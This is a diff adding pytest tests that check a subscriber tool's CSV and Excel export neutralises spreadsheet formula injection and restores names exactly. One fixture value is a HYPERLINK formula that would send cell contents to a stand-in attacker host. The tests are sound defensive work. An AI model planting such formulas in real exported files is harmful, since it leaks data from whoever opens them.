@@ -14,6 +14,8 @@ from typing import Any
 
 import pytest
 
+from notifier.csvfiles import FORMULA_STARTS, neutralised, restored
+
 from .conftest import EXAMPLE, ORGANISATIONS, Project
 
 HEADER = "email,name,role,organisation,topics,rhythm"
@@ -457,6 +459,80 @@ def test_export_to_a_file(tree: Project) -> None:
     assert "12 Abonnenten" in result.output
     assert target.read_text("utf-8") == tree.cli("subscribers", "export").output
     assert "0 neu, 0 geändert, 12 unverändert." in tree.cli("subscribers", "import", target).output
+
+
+FORMULAS = {
+    "hyperlink@gemeinde.example": '=HYPERLINK("https://angreifer.example/?d="&A1;"Klick")',
+    "summe@gemeinde.example": "+SUM(1+1)",
+    "minus@gemeinde.example": "-2+3",
+    "at@gemeinde.example": "@SUM(A1:A9)",
+    "zitiert@gemeinde.example": "'=schon zitiert",
+    "apostroph@gemeinde.example": "'s Anna",
+}
+
+
+def test_export_neutralises_formulas_and_the_excel_form_imports_the_same(
+    tree: Project, tmp_path: Path
+) -> None:
+    tree.cli("subscribers", "import", EXAMPLE)
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerow(HEADER.split(","))
+    writer.writerows(
+        [email, name, "staff", "07232", "", "daily"] for email, name in FORMULAS.items()
+    )
+    tree.cli("subscribers", "import", tree.write("formeln.csv", out.getvalue()))
+    # A ' before = in a file is Excel's text mark and is read as such; a name stored with it
+    # (from the sign-up form, say) must come back as it is.
+    assert query(tree, "SELECT name FROM subscribers WHERE email = 'zitiert@gemeinde.example'") == [
+        ("=schon zitiert",)
+    ]
+    execute(
+        tree,
+        "UPDATE subscribers SET name = ? WHERE email = ?",
+        FORMULAS["zitiert@gemeinde.example"],
+        "zitiert@gemeinde.example",
+    )
+
+    plain = tree.cli("subscribers", "export").output
+    rows = list(csv.reader(io.StringIO(plain)))
+    # OWASP: no cell starts with = + - @ (tab and CR cannot occur: the import refuses them).
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    names = {row[0]: row[1] for row in rows}
+    assert names["hyperlink@gemeinde.example"] == "'" + FORMULAS["hyperlink@gemeinde.example"]
+    assert names["minus@gemeinde.example"] == "'-2+3"
+    assert names["zitiert@gemeinde.example"] == "''=schon zitiert"
+    assert names["apostroph@gemeinde.example"] == "'s Anna"
+
+    excel = tree.root / "excel.csv"
+    tree.cli("subscribers", "export", "--excel", "-o", excel)
+    data = excel.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbfemail;name;role;organisation;topics;rhythm\r\n")
+    excel_rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert excel_rows == rows
+
+    # A fresh project imports either form: the same subscribers, names as they were.
+    (tmp_path / "fresh").mkdir()
+    fresh = Project(tmp_path / "fresh", tree.smtp)
+    fresh.cli("organisations", "load", ORGANISATIONS)
+    result = fresh.cli("subscribers", "import", excel)
+    assert f"{excel}: 18 neu, 0 geändert, 0 unverändert." in result.output
+    assert exported(fresh) == exported(tree)
+    again = fresh.cli("subscribers", "import", tree.write("plain.csv", plain)).output
+    assert "0 neu, 0 geändert, 18 unverändert." in again
+    stored = dict(
+        query(fresh, "SELECT email, name FROM subscribers WHERE email LIKE '%@gemeinde%'")
+    )
+    assert stored == FORMULAS
+
+
+@pytest.mark.parametrize(
+    "value", ["=1+2", "+1", "-1", "@A1", "\tx", "\rx", "'=x", "''+x", "'x", "x", "", "'", "''"]
+)
+def test_neutralised_cells_are_restored_exactly(value: str) -> None:
+    cell = neutralised(value)
+    assert not cell.startswith(FORMULA_STARTS)
+    assert restored(cell) == value
 
 
 @pytest.mark.parametrize(
